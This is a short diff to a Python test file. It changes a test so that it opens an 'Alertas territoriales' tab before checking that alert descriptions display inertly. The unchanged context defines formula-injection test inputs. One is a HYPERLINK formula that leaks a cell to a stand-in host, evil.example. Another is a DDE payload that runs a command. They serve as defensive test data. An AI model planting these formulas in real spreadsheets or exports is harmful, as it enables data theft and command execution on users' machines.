@@ -40,7 +40,7 @@ from exports.pack import build_pack
 from rules.core.catalog import ALERT_CATEGORIES, Role
 from rules.core.nit import format_nit
 from rules.routes.funnels import Cohort
-from tests.apptest_utils import run_app, spy_downloads
+from tests.apptest_utils import open_tab, run_app, spy_downloads
 
 LEAK = '=HYPERLINK("http://evil.example/?leak="&A2,"Ver soporte")'
 HOSTILE = (LEAK, "@SUM(1)", "+cmd|' /C calc'!A0", "-2+3", "\t=1", "\r=1")
@@ -388,7 +388,7 @@ def test_alert_description_is_inert_in_the_shown_alerts_table(demo_store_rw):
     for text in (*HOSTILE, "-5"):
         alerts.open_alert(viewer, {"municipality_code": "05001", "category": next(iter(ALERT_CATEGORIES)),
                                    "severity": "alta", "description": text}, url=demo_store_rw)
-    at = run_app(demo_store_rw, "analista", page="pages/edit.py")
+    at = open_tab(run_app(demo_store_rw, "analista", page="pages/edit.py"), "Alertas territoriales")
     assert not at.exception
     df = shown_table(at, "Descripción")
     descriptions = set(df["Descripción"])
